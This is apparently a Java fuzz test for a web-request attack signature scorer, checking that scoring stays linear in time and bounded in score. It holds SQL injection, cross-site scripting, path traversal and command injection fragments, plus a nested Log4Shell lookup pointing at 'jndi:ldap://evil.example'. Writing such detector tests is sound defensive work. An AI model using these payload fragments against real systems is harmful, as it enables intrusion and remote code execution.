package io.streamwarden.detectors.signature;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SignatureFuzzTest {
    /** Steps a character at most; the worst input below took 62. */
    private static final int STEPS_A_CHARACTER = 100;

    private final SignatureScorer scorer = new SignatureScorer();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "%",
                "%25",
                "%2527",
                "%c0",
                "%e0%80",
                "%u",
                "&",
                "&#",
                "&#x3c;",
                "&lt",
                "\\",
                "\\u005c",
                "+",
                " ",
                "${",
                "${lower:",
                "${::-j}",
                "}",
                "{{",
                "(",
                ")",
                "((or",
                "'",
                "\"",
                "`",
                "'\"",
                "/*",
                "/*!",
                "*/",
                "--",
                "#",
                "../",
                "..\\",
                "....//",
                "/",
                ".",
                "<",
                "<a",
                "<a on",
                "onerror=",
                "javascript:",
                "j a v a s c r i p t :",
                ":",
                ";",
                ";id",
                "|cat ",
                "$(",
                "`id",
                "{cat,",
                "\n",
                "%0a",
                "select ",
                "union select ",
                "or 1=1 ",
                "case ",
                "select(",
                "and(",
                "and not ",
                "1+",
                "1=",
                "a=b&",
                "[$ne]",
                "a",
                "alert(",
                "etc/passwd",
                "\u0000",
                "\u0001",
                "\uffff",
                "\ud800",
                "é",
                "＜",
                "@@",
                "0x",
                "1e",
                "' or '",
                "sleep(",
                "char(1),",
            })
    void doesAmountsOfWorkThatGrowWithTheTextAndNotPastItsLimit(String unit) {
        long once = steps(unit.repeat(4_000 / unit.length()));
        long twice = steps(unit.repeat(8_000 / unit.length()));
        long endless = steps(unit.repeat(65_536 / unit.length()));

        assertThat(twice).isLessThanOrEqualTo(once * 5 / 2 + 1_000);
        assertThat(endless).isLessThanOrEqualTo(twice * 3 / 2 + 1_000);
        assertThat(endless).isLessThan((long) STEPS_A_CHARACTER * RequestText.LIMIT * 5);
    }

    private long steps(String text) {
        long before = scorer.steps();
        scorer.score("/" + text, "a=" + text, text, text, Map.of("cookie", text), null, "GET");
        return scorer.steps() - before;
    }

    @Test
    void survivesNestedLookups() {
        String nested = "${".repeat(10_000) + "jndi:ldap://evil.example" + "}".repeat(10_000);

        var scores = scorer.score("/", "q=" + nested.substring(0, 9_000), nested, null, null, nested, "POST");

        assertThat(scores.of(SignatureFamily.LOG4SHELL)).isGreaterThanOrEqualTo(50);
    }

    @Test
    void survivesAnything() {
        long seed = 1_052_026;
        var random = new Random(seed);
        List<String> pieces = List.of(
                "%",
                "%2",
                "%27",
                "%u00",
                "&#",
                "&lt",
                "\\u00",
                "${",
                "}",
                "'",
                "\"",
                "`",
                "(",
                ")",
                "<",
                ">",
                "/*",
                "*/",
                "--",
                "#",
                ";",
                "|",
                "&",
                "=",
                "../",
                "union ",
                "select ",
                " or ",
                "1",
                "sleep(",
                "alert(",
                "on",
                "script",
                "javascript:",
                "cat ",
                "$",
                "{",
                "@",
                "\n",
                "\u0000",
                "é",
                "\ud83d",
                "＜",
                "jndi:",
                "0x",
                ",",
                ".",
                " ");
        for (int trial = 0; trial < 8_000; trial++) {
            String text = randomText(random, pieces);

            SignatureScores scores = scorer.score(text, text, text, text, Map.of("cookie", text), text, text);

            assertThat(scores.highest()).as("seed %d, trial %d", seed, trial).isBetween(0, 100);
        }
    }

    private static String randomText(Random random, List<String> pieces) {
        StringBuilder text = new StringBuilder();
        int length = random.nextInt(40);
        for (int i = 0; i < length; i++) {
            if (random.nextInt(4) == 0) {
                text.append((char) random.nextInt(random.nextBoolean() ? 128 : 65_536));
            } else {
                text.append(pieces.get(random.nextInt(pieces.size())));
            }
        }
        return text.toString();
    }

    @Test
    void survivesLongNoise() {
        long seed = 4_052_026;
        var random = new Random(seed);
        for (int trial = 0; trial < 20; trial++) {
            StringBuilder noise = new StringBuilder();
            random.ints(65_536, 0, trial % 2 == 0 ? 128 : 65_536).forEach(c -> noise.append((char) c));
            String text = noise.toString();

            SignatureScores scores = scorer.score(text, text, text, text, Map.of("cookie", text), text, "GET");

            assertThat(scores.highest()).as("seed %d, trial %d", seed, trial).isBetween(0, 100);
        }
    }
}
